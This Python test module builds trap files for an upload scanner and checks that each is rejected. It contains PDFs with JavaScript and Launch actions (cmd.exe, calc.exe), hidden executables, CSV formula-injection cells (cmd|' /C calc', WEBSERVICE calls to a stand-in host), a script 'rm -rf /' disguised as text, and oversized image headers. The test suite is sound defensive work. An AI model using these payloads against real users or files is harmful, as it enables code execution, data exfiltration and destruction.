"""Files that nobody may deposit, by name: what they are called, what they hold, what is found."""

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.vault import astray, computed, disguised, packed, samples, tables
from tests.vault.packed import R, Trap


def _locked_pdf(**how: Any) -> bytes:
    made = pikepdf.open(io.BytesIO(samples.PDF))
    return samples.saved(made, encryption=pikepdf.Encryption(**how))


def _on_page(change: Callable[[pikepdf.Pdf, Any], None]) -> bytes:
    made = pikepdf.open(io.BytesIO(samples.PDF))
    change(made, made.pages[0].obj)
    return samples.saved(made)


def _annotation(**about: Any) -> bytes:
    def add(made: pikepdf.Pdf, page: Any) -> None:
        mark = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **about)
        page["/Annots"] = made.make_indirect(Array([mark]))

    return _on_page(add)


def _acting(**action: Any) -> bytes:
    """A link on the page that does this when clicked."""
    return _annotation(Subtype=Name.Link, A=Dictionary(**action))


def _elsewhere() -> bytes:
    def add(made: pikepdf.Pdf, page: Any) -> None:
        page["/AF"] = made.make_indirect(Array([Dictionary(Type=Name.Filespec, F="//h/a.doc")]))

    return _on_page(add)


def _nameless() -> bytes:
    """A file that no name leads to, and a reader that looks for hidden ones does find."""

    def add(made: pikepdf.Pdf, page: Any) -> None:
        page["/PieceInfo"] = made.make_stream(b"MZ", Type=Name.EmbeddedFile)

    return _on_page(add)


def _borrowed(**about: Any) -> bytes:
    """A picture of the page, whose content would be fetched."""

    def add(made: pikepdf.Pdf, page: Any) -> None:
        form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        for key, value in about.items():
            form[f"/{key}"] = value
        page["/Resources"] = Dictionary(XObject=Dictionary(F1=form))

    return _on_page(add)


def _hidden_script() -> bytes:
    """In a packed stream of objects, below two arrays: no search by bytes would see it."""
    made = pikepdf.open(io.BytesIO(samples.PDF))
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    made.Root["/PieceInfo"] = made.make_indirect(Array([Array([Dictionary(Deep=script)])]))
    return samples.saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _png_header(width: int, height: int) -> bytes:
    """A PNG that announces that many pixels and holds none."""
    head = b"IHDR" + struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))
    return b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", 0) + b"IDAT"


def _jpeg_header(width: int, height: int) -> bytes:
    at = samples.JPEG.index(b"\xff\xc0") + 5
    return samples.JPEG[:at] + struct.pack(">2H", height, width) + samples.JPEG[at + 4 :]


def _js() -> Any:
    """Made anew each time: one belongs to the file that it was put into."""
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _launch() -> Any:
    return Dictionary(S=Name.Launch, F="cmd.exe")


PDFS: dict[str, Trap] = {
    "a PDF with a password": ("a.pdf", _locked_pdf(owner="a", user="b"), R.PDF_LOCKED),
    "a PDF with restrictions": ("a.pdf", _locked_pdf(owner="a", user=""), R.PDF_LOCKED),
    "a script on opening": ("a.pdf", samples.pdf(OpenAction=_js()), R.PDF_OPENING),
    "a program on opening": ("a.pdf", samples.pdf(OpenAction=_launch()), R.PDF_OPENING),
    "a page, then a script, on opening": (
        "a.pdf",
        samples.pdf(OpenAction=Dictionary(S=Name.GoTo, D=Array([]), Next=_js())),
        R.PDF_OPENING,
    ),
    "an address on opening": (
        "a.pdf",
        samples.pdf(OpenAction=Dictionary(S=Name.URI, URI="https://piege.test")),
        R.PDF_OPENING,
    ),
    "a deed on closing": ("a.pdf", samples.pdf(AA=Dictionary(WC=_js())), R.PDF_OPENING),
    "a deed of a page": (
        "a.pdf",
        _on_page(lambda _, page: page.update({"/AA": Dictionary(O=_launch())})),
        R.PDF_OPENING,
    ),
    "a deed of a mark on a page": (
        "a.pdf",
        _annotation(
            Subtype=Name.Link, AA=Dictionary(PV=Dictionary(S=Name.URI, URI="https://piege.test"))
        ),
        R.PDF_OPENING,
    ),
    "a script for an address": (
        "a.pdf",
        _acting(S=Name.URI, URI=" java\nscript:app.alert(1)"),
        R.PDF_LAUNCH,
    ),
    "a file of this machine for an address": (
        "a.pdf",
        _acting(S=Name.URI, URI="file:///c:/windows/system32/calc.exe"),
        R.PDF_LAUNCH,
    ),
    "a share for an address": ("a.pdf", _acting(S=Name.URI, URI=r"\\h\a"), R.PDF_LAUNCH),
    "a page of another file": ("a.pdf", _borrowed(Ref=Dictionary(F="//h/a.pdf")), R.PDF_LAUNCH),
    "a content that is elsewhere": ("a.pdf", _borrowed(F="//h/a.bin"), R.PDF_LAUNCH),
    "a thread of another file": ("a.pdf", _acting(S=Name.Thread, F="//h/a.pdf"), R.PDF_LAUNCH),
    "a script by name": (
        "a.pdf",
        samples.pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", _js()])))),
        R.PDF_SCRIPT,
    ),
    "a script behind a link": ("a.pdf", _acting(S=Name.JavaScript, JS="a()"), R.PDF_SCRIPT),
    "a script well hidden": ("a.pdf", _hidden_script(), R.PDF_SCRIPT),
    "a program behind a link": ("a.pdf", _acting(S=Name.Launch, F="a.exe"), R.PDF_LAUNCH),
    "another file behind a link": ("a.pdf", _acting(S=Name.GoToR, F="//h/a.pdf"), R.PDF_LAUNCH),
    "a program attached": ("a.pdf", samples.carrying(("facture.exe", b"MZ")), R.PDF_ATTACHED),
    "a program attached as data": (
        "a.pdf",
        samples.carrying(("facture.json", b"MZ\0\1")),
        R.PDF_ATTACHED,
    ),
    "a drawing attached as data": (
        "a.pdf",
        samples.carrying(
            ("a.xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>')
        ),
        R.PDF_ATTACHED,
    ),
    "a name that turns the writing round": (
        "a.pdf",
        samples.carrying(("facture\u202efdp.json", b"{}")),
        R.PDF_ATTACHED,
    ),
    "a name that never ends": (
        "a.pdf",
        samples.carrying((f"{'a' * 200}.json", b"{}")),
        R.PDF_ATTACHED,
    ),
    "a script attached": (
        "a.pdf",
        samples.carrying(("a.pdf", samples.pdf(OpenAction=_js()))),
        R.PDF_ATTACHED,
    ),
    "files attached to what is attached": (
        "a.pdf",
        samples.carrying(("a.pdf", samples.carrying(("a.txt", b"a")))),
        R.PDF_ATTACHED,
    ),
    "more files than anybody looks through": (
        "a.pdf",
        samples.carrying(*((f"{n}.txt", b"a") for n in range(21))),
        R.PDF_ATTACHED,
    ),
    "a file that is elsewhere": ("a.pdf", _elsewhere(), R.PDF_ATTACHED),
    "a file without a name": ("a.pdf", _nameless(), R.PDF_ATTACHED),
    "a file pinned to a page": ("a.pdf", _annotation(Subtype=Name.FileAttachment), R.PDF_ATTACHED),
    "a file of a share pinned to a page": (
        "a.pdf",
        _annotation(Subtype=Name.FileAttachment, FS=Dictionary(F=r"\\h\a.exe")),
        R.PDF_ATTACHED,
    ),
    "a file of a share that goes along": (
        "a.pdf",
        samples.pdf(AF=Array([Dictionary(F="//h/a.doc")])),
        R.PDF_ATTACHED,
    ),
    "a file of a share under its other name": (
        "a.pdf",
        samples.pdf(
            Names=Dictionary(EmbeddedFiles=Dictionary(Names=["a", Dictionary(UF="//h/a")]))
        ),
        R.PDF_ATTACHED,
    ),
    "an XFA form": (
        "a.pdf",
        samples.pdf(AcroForm=Dictionary(XFA=Array([]), Fields=Array([]))),
        R.PDF_FORM,
    ),
    "a form that sends": ("a.pdf", _acting(S=Name.SubmitForm, F="https://piege.test"), R.PDF_FORM),
    "a film": ("a.pdf", _annotation(Subtype=Name.RichMedia), R.PDF_MEDIA),
    "a sound": ("a.pdf", _acting(S=Name.Sound), R.PDF_MEDIA),
    "a scene": ("a.pdf", _annotation(Subtype=Name("/3D")), R.PDF_MEDIA),
    "half a PDF": ("a.pdf", samples.PDF[: len(samples.PDF) // 2], R.PDF_BROKEN),
    "the beginning of a PDF": ("a.pdf", b"%PDF-1.7\n%%EOF\n", R.PDF_BROKEN),
    "a PDF without a page": ("a.pdf", samples.saved(pikepdf.new()), R.PDF_BROKEN),
    "a zip behind a PDF": ("a.pdf", samples.PDF + samples.DOCX, R.PDF_BROKEN),
    "a page of the web before a PDF": ("a.pdf", b"<script>\n" + samples.PDF, R.DISGUISED),
}

OTHERS: dict[str, Trap] = {
    "too many pixels (PNG)": ("a.png", _png_header(20_000, 20_000), R.IMAGE_PIXELS),
    "just too many pixels (PNG)": ("a.png", _png_header(40_000_001, 1), R.IMAGE_PIXELS),
    "too many pixels (JPEG)": ("a.jpg", _jpeg_header(60_000, 60_000), R.IMAGE_PIXELS),
    "no pixel": ("a.png", _png_header(4, 4), R.IMAGE_BROKEN),
    "half a photograph": ("a.jpg", samples.JPEG[: len(samples.JPEG) // 2], R.IMAGE_BROKEN),
    "a page called an image": ("a.png", b"<html>", R.DISGUISED),
    "a drawing called an image": ("a.png", b"<svg onload='a()'/>", R.DISGUISED),
    "a PNG called JPEG": ("a.jpg", samples.PNG, R.DISGUISED),
    "a drawing": ("a.svg", b"<svg/>", R.UNKNOWN_KIND),
    "a page": ("a.html", b"<p>a</p>", R.UNKNOWN_KIND),
    "a Word file with macros by its name": ("a.docm", samples.DOCX, R.UNKNOWN_KIND),
    "two extensions": ("a.pdf.exe", samples.PDF, R.UNKNOWN_KIND),
    "no extension": ("rapport", samples.PDF, R.UNKNOWN_KIND),
    "nothing": ("a.txt", b"", R.EMPTY),
    "a program called a text": ("a.txt", b"MZ\x90\0", R.DISGUISED),
    "a program of Linux called a table": ("a.csv", b"\x7fELF\2", R.DISGUISED),
    "a PDF called a text": ("a.txt", samples.PDF, R.DISGUISED),
    "a page called a text": ("a.txt", b"\xef\xbb\xbf \n<!DOCTYPE html><p>", R.DISGUISED),
    "a script called a text": ("a.txt", b"#!/bin/sh\nrm -rf /\n", R.DISGUISED),
    "zeros in a text": ("a.txt", b"releve\0", R.TEXT_ODD),
    "a terminal's orders in a text": ("a.txt", b"a\x1b[2Jb", R.TEXT_ODD),
    "no text at all": ("a.csv", b"a\x81\x8d\x8f\x90\x9d", R.TEXT_ODD),
    "a cell that calls a program": ("a.csv", b"a;=cmd|' /C calc'!A0\n", R.TEXT_FORMULA),
    "a cell that calls by a plus": ("a.csv", b"a\n+cmd|'/C calc'!A0\n", R.TEXT_FORMULA),
    "a cell that fetches": ("a.csv", b'a;"=WEBSERVICE(""https://piege.test"")"\n', R.TEXT_FORMULA),
    "a formula that begins long before": (
        "a.csv",
        b"a;=A1" + b"+A1" * 200 + b"+cmd|' /C calc'!A0\n",
        R.TEXT_FORMULA,
    ),
    "a formula over two lines": ("a.csv", b'a;"=1+\nWEBSERVICE(1)"\n', R.TEXT_FORMULA),
    "a formula over two lines that nothing ends": (
        "a.csv",
        b"a;\"=1+\ncmd|'/C a'!A0",
        R.TEXT_FORMULA,
    ),
    "a cell of a wide sign": ("a.csv", "a;\uff1dcmd|' /C a'!A0\n".encode(), R.TEXT_FORMULA),
    "a cell parted by a bar": ("a.csv", b"a|=cmd|' /C calc'!A0\n", R.TEXT_FORMULA),
    "a page in another alphabet": (
        "a.txt",
        "\ufeff<html><script>a()</script>".encode("utf-16-le"),
        R.DISGUISED,
    ),
    "a cell that links": ("a.csv", b'a,=HYPERLINK("https://piege.test?"&A1)\n', R.TEXT_FORMULA),
}

ALL = {
    **packed.ZIPS, **packed.OFFICE, **disguised.WRITTEN, **computed.FORMULAS, **tables.TABLES,
    **astray.LINKS, **PDFS, **OTHERS,
}  # fmt: skip
